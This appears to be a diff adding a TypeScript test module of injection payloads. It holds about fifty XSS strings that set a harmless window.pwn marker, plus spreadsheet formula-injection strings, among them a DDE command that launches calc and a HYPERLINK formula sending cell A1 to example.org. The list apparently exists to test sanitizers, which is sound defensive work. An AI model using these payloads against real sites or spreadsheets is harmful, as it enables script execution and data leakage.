@@ -1,0 +1,72 @@
+/** Texts that act where they are taken for something else: markup, scripts, addresses, formulas. */
+
+const act = 'window.pwn=1'
+
+/** Each sets `window.pwn` where a page takes it for markup. */
+const markup: readonly string[] = [
+  `<script>${act}</script>`,
+  `</script><script>${act}</script>`,
+  `<ScRiPt>${act}</sCrIpT>`,
+  `<img src=x onerror=${act}>`,
+  `<img src=x onerror="${act}">`,
+  `"><img src=x onerror=${act}>`,
+  `'><img src=x onerror=${act}>`,
+  `--><img src=x onerror=${act}>`,
+  `]]><img src=x onerror=${act}>`,
+  `</textarea><img src=x onerror=${act}>`,
+  `</title><img src=x onerror=${act}>`,
+  `</style><img src=x onerror=${act}>`,
+  `</option></select><img src=x onerror=${act}>`,
+  `<image src=x onerror=${act}>`,
+  `<svg onload=${act}>`,
+  `<svg><script>${act}</script></svg>`,
+  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
+  `<svg><foreignObject><iframe onload=${act}></iframe></foreignObject></svg>`,
+  `<math><mtext><img src=x onerror=${act}></mtext></math>`,
+  `<iframe srcdoc="<script>parent.pwn=1</script>"></iframe>`,
+  `<iframe src="javascript:parent.pwn=1"></iframe>`,
+  `<iframe onload=${act}></iframe>`,
+  `<object data="javascript:${act}"></object>`,
+  `<embed src="javascript:${act}">`,
+  `<body onload=${act}>`,
+  `<video><source onerror=${act}></video>`,
+  `<video src=x onerror=${act}></video>`,
+  `<audio src=x onerror=${act}>`,
+  `<input autofocus onfocus=${act}>`,
+  `<select autofocus onfocus=${act}>`,
+  `<textarea autofocus onfocus=${act}></textarea>`,
+  `<details open ontoggle=${act}>x</details>`,
+  `<marquee onstart=${act}>x</marquee>`,
+  `<a href="javascript:${act}">x</a>`,
+  `<form action="javascript:${act}"><button>x</button></form>`,
+  `<meta http-equiv=refresh content="0;javascript:${act}">`,
+  `<link rel=stylesheet href=x onerror=${act}>`,
+  `<style onload=${act}></style>`,
+  `<style>@import 'x'</style><img src=x onerror=${act}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
+  `&lt;img src=x onerror=${act}&gt;`,
+  `\\u003cimg src=x onerror=${act}\\u003e`,
+  `" autofocus onfocus="${act}`,
+  `' onmouseover='${act}`,
+  `javascript:${act}//`,
+  `{{constructor.constructor('${act}')()}}`,
+  `\${${act}}`,
+  `{sex}<img src=x onerror=${act}>`,
+  `＜img src=x onerror=${act}＞`,
+]
+
+/** Each is taken for a formula by some spreadsheet. */
+export const formulas: readonly string[] = [
+  '=1+1',
+  '=HYPERLINK("https://example.org?"&A1)',
+  "=cmd|'/c calc'!A1",
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+]
+
+export const payloads: readonly string[] = [...markup, ...formulas]
